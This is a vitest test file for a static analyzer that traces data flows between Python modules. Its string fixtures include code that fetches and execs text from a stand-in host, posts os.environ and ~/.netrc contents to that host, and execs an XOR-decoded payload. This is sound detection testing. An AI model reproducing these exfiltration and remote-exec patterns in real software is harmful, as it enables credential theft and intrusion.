import { expect, test } from 'vitest';
import type { SinkKind, SourceKind } from '../../src/core/facts/source-facts.js';
import { linkedFacts } from '../../src/python/linked/linked-facts.js';
import type { Resolve } from '../../src/python/linked/resolve.js';
import { loadPythonParser } from '../../src/python/parser.js';
import { WASM_FILES } from './reading.js';

const parser = await loadPythonParser({ ...WASM_FILES, backend: 'wasm' });

/** Modules of one folder find one another by `.name`. */
const resolve: Resolve = (name) => {
  const [, module = '', rest = ''] = /^\.(main|shed|box)(?:\(\))?\.?(.*)$/.exec(name) ?? [];
  return module === '' ? null : { path: `${module}.py`, rest };
};

function flows(main: string, shed: string | readonly [string, string], [from, to]: readonly [SourceKind, SinkKind]): readonly string[] {
  const [second, box] = typeof shed === 'string' ? [shed, ''] : shed;
  const files = Object.entries({ 'main.py': main, 'shed.py': second, 'box.py': box }).map(([path, text]) => ({ path, bytes: Buffer.from(text), runs: 'import' as const }));
  return [...linkedFacts(files, resolve, { parser })].flatMap(([path, facts]) => facts.flows({ from, to }).map(({ when }) => `${path} ${when}`));
}

const GIVES = 'import requests\nclass Bed:\n    def __init__(self, name=""):\n        self.name = name\n';
const REPLY = 'requests.get("https://o.example.invalid/" + self.name).text';

test.each<[string, string, string]>([
  ['is entered', 'with Bed("x") as code:\n    exec(code)\n', `    def __enter__(self): return ${REPLY}\n    def __exit__(self, *rest): pass\n`],
  ['is called', 'dig = Bed()\nexec(dig("x"))\n', `    def __call__(self, part): return ${REPLY}\n`],
  ['is asked for an item', 'exec(Bed()["x"])\n', `    def __getitem__(self, part): return ${REPLY}\n`],
  ['is turned into text', 'exec(str(Bed("x")))\n', `    def __str__(self): return ${REPLY}\n`],
  ['is gone through', 'for name, code in Bed():\n    exec(code)\n', `    def __iter__(self):\n        yield "x", ${REPLY}\n`],
  ['is asked for a property', 'exec(Bed("x").code)\n', `    @property\n    def code(self): return ${REPLY}\n`],
])('an object of another module that %s gives what its class says', (_, main, shed) => {
  expect(flows(`from .shed import Bed\n${main}`, GIVES + shed, ['network', 'exec'])).toContain('main.py import');
});

test('an object of another module that is called is told what it is called with', () => {
  expect(flows('import os\nfrom .shed import Bed\nsend = Bed()\nsend(dict(os.environ))\n', `${GIVES}    def __call__(self, data): requests.post("https://o.example.invalid", json=data)\n`, ['environment', 'network'])).toContain('shed.py import');
});

test('a method of another module that is called `open` opens no file', () => {
  const shed = 'from itertools import cycle\nclass Bed:\n    def __init__(self, key): self.key = key\n    def open(self, data): return bytes(a ^ b for a, b in zip(data, cycle(self.key)))\n';
  expect(flows('from .shed import Bed\nexec(Bed(b"k3y").open(b"\\x1b\\x02"))\n', shed, ['decoder', 'exec'])).toContain('main.py import');
});

test('a method of a base is given what the heirs of other modules give it', () => {
  const base = 'import json, urllib.request\nclass Job:\n    def collect(self): raise NotImplementedError\n    def send(self): urllib.request.urlopen("https://o.example.invalid", json.dumps(self.collect()).encode())\n';
  expect(flows('import os\nfrom .shed import Job\nclass Mine(Job):\n    def collect(self): return dict(os.environ)\nMine().send()\n', base, ['environment', 'network'])).toContain('shed.py import');
});

test('a function within a function of another module takes its first argument for what it is', () => {
  const shed = 'import urllib.request\ndef remote(place):\n    def wrap(function):\n        function(urllib.request.urlopen(place).read())\n        return function\n    return wrap\n';
  expect(flows('from .shed import remote\n@remote("https://o.example.invalid")\ndef bed(code): exec(code)\n', shed, ['network', 'exec'])).toContain('main.py import');
});

test.each<[string, string, string]>([
  ['a method that nobody calls', 'with Bed("x") as code:\n    exec(code)\n', `    def __enter__(self): return "x = 1"\n    def __exit__(self, *rest): pass\n    def dig(self): return ${REPLY}\n`],
  ['an object of somebody else\'s class', 'import other\nwith other.Bed("x") as code:\n    exec(code)\n', `    def __enter__(self): return ${REPLY}\n`],
])('%s gives nothing', (_, main, shed) => {
  expect(flows(`from .shed import Bed\n${main}`, GIVES + shed, ['network', 'exec'])).toEqual([]);
});

const SEND = 'requests.post("https://o.example.invalid", data=str(';

test.each<[string, string, readonly [string, string]]>([
  ['a dict of a module between them', 'import os\nfrom . import box\nfor name in (".netrc",): box.FOUND[name] = open(os.path.expanduser("~/.netrc")).read()\n', [`import requests\nfrom . import box\n${SEND}box.FOUND))\n`, 'FOUND = {}\n']],
  ['a list of a module between them', 'import os\nfrom .box import QUEUE\nQUEUE.append(open(os.path.expanduser("~/.netrc")).read())\n', [`import requests\nfrom .box import QUEUE\n${SEND}QUEUE))\n`, 'QUEUE = []\n']],
  ['a variable of a module between them', 'import os\nfrom . import box\nbox.KEY = open(os.path.expanduser("~/.netrc")).read()\n', [`import requests\nfrom . import box\n${SEND}box.KEY))\n`, 'KEY = None\n']],
])('what one module puts into %s is found there by the other', (_, main, files) => {
  expect(flows(main, files, ['credentials', 'network'])).toContain('shed.py import');
});

test('what one module puts into another variable is not found there', () => {
  expect(flows('import os\nfrom . import box\nbox.KEY = open(os.path.expanduser("~/.netrc")).read()\n', [`import requests\nfrom . import box\n${SEND}box.NAME))\n`, 'KEY = None\nNAME = "x"\n'], ['credentials', 'network'])).toEqual([]);
});

test('a class of several bases from other modules has the methods of each of them', () => {
  const main = 'from .box import Look\nfrom .shed import Post\nclass Agent(Look, Post):\n    def go(self): self.post(self.look())\nAgent().go()\n';
  const post = 'import requests\nclass Post:\n    def post(self, data): requests.post("https://o.example.invalid", json=data)\n';
  const look = 'import os\nclass Look:\n    def look(self): return dict(os.environ)\n';
  expect(flows(main, [post, look], ['environment', 'network'])).toContain('shed.py import');
});
